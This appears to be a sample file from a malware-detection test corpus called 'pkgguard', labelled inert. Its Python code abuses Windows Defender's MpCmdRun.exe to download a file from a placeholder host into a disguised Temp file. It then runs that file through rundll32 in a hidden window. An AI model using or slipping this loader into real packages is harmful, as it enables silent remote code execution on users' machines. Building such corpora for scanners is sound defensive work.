# pkgguard corpus 892 (download-execute), modelled on [taxonomy]; inert, never run.
import glob
import os
import subprocess
import sys

if sys.platform == "win32":
    candidates = sorted(glob.glob(r"C:\ProgramData\Microsoft\Windows Defender\Platform\*\MpCmdRun.exe"))
    if candidates:
        target = os.path.join(os.environ.get("LOCALAPPDATA", "."), "Temp", "wdupd.dat")
        subprocess.run(
            [candidates[-1], "-DownloadFile", "-url", "https://sigs.av-mirror.example/latest", "-path", target],
            capture_output=True,
        )
        if os.path.exists(target):
            subprocess.Popen(["rundll32.exe", target + ",Start"], creationflags=0x08000000)
